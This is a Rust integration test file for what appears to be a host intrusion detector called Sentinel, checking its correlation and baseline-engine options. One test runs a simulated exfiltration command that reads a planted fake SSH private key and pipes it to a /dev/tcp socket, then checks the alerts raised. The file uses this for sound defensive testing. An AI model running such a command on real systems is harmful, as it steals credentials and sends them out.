//! Options of correlation and baseline engine do what they say: each is given to one of several Sentinels that see
//! the same at the same time, so that it alone makes the difference.

use std::{
    fs,
    io::Write as _,
    os::unix::fs::PermissionsExt as _,
    path::PathBuf,
    process::{Child, Command, Stdio},
    thread,
    time::Duration,
};

use sentinel_tests::{
    bed::Bed,
    outside::{ADDRESS, Outside},
    programs::compiled,
    sentinel::{Outcome, PATIENCE, Sentinel, alerts, within},
};
use serde_json::Value;

/// A Sentinel with `options` and a log of its own.
struct Watcher {
    sentinel: Sentinel,
    log: PathBuf,
}

impl Watcher {
    fn start(bed: &Bed, name: &str, options: &[&str]) -> Self {
        let log = bed.path(&format!("{name}.json"));
        let path = format!("--json-log-path={}", log.display());
        let sentinel = Sentinel::start(bed, &[&["--enable-json-log", &path], options].concat());
        Self { sentinel, log }
    }

    /// What it was told of `what`, the newest last: a stage of the one engine, a count of the other.
    fn told(&self, what: &str) -> Vec<Value> {
        let is_it = |alert: &Value| alert["stage"] == what || alert["syscall"] == what;
        alerts(&self.log).into_iter().filter(is_it).collect()
    }

    fn stop(self) -> Outcome {
        self.sentinel.stop()
    }
}

#[test]
fn points_and_bytes_decide_on_what_left() {
    let Some(bed) = Bed::new() else { return };
    let outside = Outside::new();
    let key = bed.path(".ssh/id_ed25519");
    fs::create_dir(bed.path(".ssh")).unwrap();
    fs::write(&key, "k".repeat(8000)).unwrap();
    fs::set_permissions(&key, fs::Permissions::from_mode(0o600)).unwrap();
    let engine = "--enable-correlation";
    // What left is 1,500 bytes that are not as they were: 120 points, and 50 more if that is enough.
    let critical = [
        ("usual", &[engine][..], 170),
        ("enough", &[engine, "--correlation-threshold=170"], 170),
        ("bytes", &[engine, "--min-exfil-bytes=2000"], 120),
    ]
    .map(|(name, options, score)| (Watcher::start(&bed, name, options), name, score));
    let warning = Watcher::start(&bed, "high", &[engine, "--correlation-threshold=171"]);
    let (there, loot) = outside.peer(ADDRESS);
    let code =
        format!("head -c 1500 {} | tr k q >/dev/tcp/{ADDRESS}/{}", key.display(), there.port());
    let mut thief = outside.command(&bed, "bash");
    assert!(thief.args(["-c", &code]).stdin(Stdio::null()).status().unwrap().success());
    assert!(within(PATIENCE, || loot.bytes().len() >= 1500));
    for (watcher, name, score) in &critical {
        let last = || watcher.told("data_sent").pop().unwrap_or_default();
        assert!(within(PATIENCE, || last()["severity"] == "critical"), "{name}: {:#}", last());
        assert_eq!(last()["score"], *score, "{name}: {:#}", last());
    }
    // What it says depends on what it saw first; it is never worse.
    let log = warning.log.clone();
    warning.stop();
    let told = alerts(&log);
    assert!(!told.is_empty() && told.iter().all(|one| one["severity"] == "warning"), "{told:#?}");
    critical.into_iter().for_each(|(watcher, ..)| drop(watcher.stop()));
}

/// Programs with habits: one that will trace another, one that will fork.
fn begin(bed: &Bed) -> [Child; 2] {
    ["habit", "routine"].map(|name| {
        let mut command = bed.command(compiled(name));
        command.stdin(Stdio::piped()).spawn().unwrap()
    })
}

#[test]
fn what_is_learned_judged_and_kept_is_as_it_was_asked_for() {
    let Some(bed) = Bed::new() else { return };
    let engine = ["--enable-baseline", "--learning-period=10"];
    let kept = |name: &str| format!("--baseline-path={}", bed.path(name).display());
    let learner = Watcher::start(&bed, "learner", &[&engine[..], &[&kept("learned")]].concat());
    let mut running = begin(&bed);
    thread::sleep(Duration::from_secs(14));
    learner.stop();
    let learned = fs::read(bed.path("learned/baseline")).unwrap();

    let watchers = [
        ("usual", ""),
        ("deaf", "--no-detection"),
        ("patient", "--detection-threshold=100"),
        ("frozen", "--no-learning"),
        ("fresh", "--no-load-baselines"),
    ]
    .map(|(name, option)| {
        // With its owner, who is Sentinel's user.
        let mut copy = Command::new("cp");
        copy.arg("-a").args([bed.path("learned"), bed.path(name)]);
        assert!(copy.status().unwrap().success());
        let options = [&engine[..], &[&kept(name)], &[option][usize::from(option.is_empty())..]];
        (name, options.concat().iter().map(|&one| one.to_owned()).collect::<Vec<String>>())
    });
    let watchers = watchers.each_ref().map(|(name, options)| {
        let options: Vec<&str> = options.iter().map(String::as_str).collect();
        (Watcher::start(&bed, name, &options), *name)
    });
    // They run under the eyes of all of them for a moment.
    thread::sleep(Duration::from_secs(2));
    drop(running[0].stdin.take());
    running[1].stdin.as_mut().unwrap().write_all(b"forks").unwrap();
    let is_told = |name: &str, what: &str| {
        let (watcher, _) = watchers.iter().find(|(_, one)| *one == name).unwrap();
        !watcher.told(what).is_empty()
    };
    let judging = ["usual", "frozen"];
    let are_told = || {
        judging.iter().all(|name| is_told(name, "ptrace") && is_told(name, "new processes"))
            && is_told("patient", "ptrace")
    };
    assert!(within(PATIENCE, are_told), "{:?}", watchers.each_ref().map(|(it, _)| alerts(&it.log)));
    drop(running[1].stdin.take());
    let most = |name: &str| {
        let (watcher, _) = watchers.iter().find(|(_, one)| *one == name).unwrap();
        let all = watcher.told("new processes");
        all.iter().map(|alert| alert["z"].as_f64().unwrap()).reduce(f64::max)
    };
    let is_far = |deviations: &f64| *deviations >= 100.0;
    assert!(most("patient").is_none_or(|deviations| is_far(&deviations)), "{:?}", most("patient"));
    for name in ["deaf", "fresh"] {
        assert!(!is_told(name, "ptrace") && !is_told(name, "new processes"), "{name}");
    }
    let outcomes = thread::scope(|scope| {
        let stopped = watchers.map(|(watcher, name)| scope.spawn(move || (watcher.stop(), name)));
        stopped.map(|outcome| outcome.join().unwrap())
    });
    for (outcome, name) in outcomes {
        let says = outcome.output.contains("programs learned before");
        assert_eq!(says, name != "fresh", "{name}: {}", outcome.output);
        let is_as_it_was = fs::read(bed.path(name).join("baseline")).unwrap() == learned;
        assert_eq!(is_as_it_was, name == "frozen", "{name}");
    }
    running[0].kill().unwrap();
    for one in &mut running {
        one.wait().unwrap();
    }
}
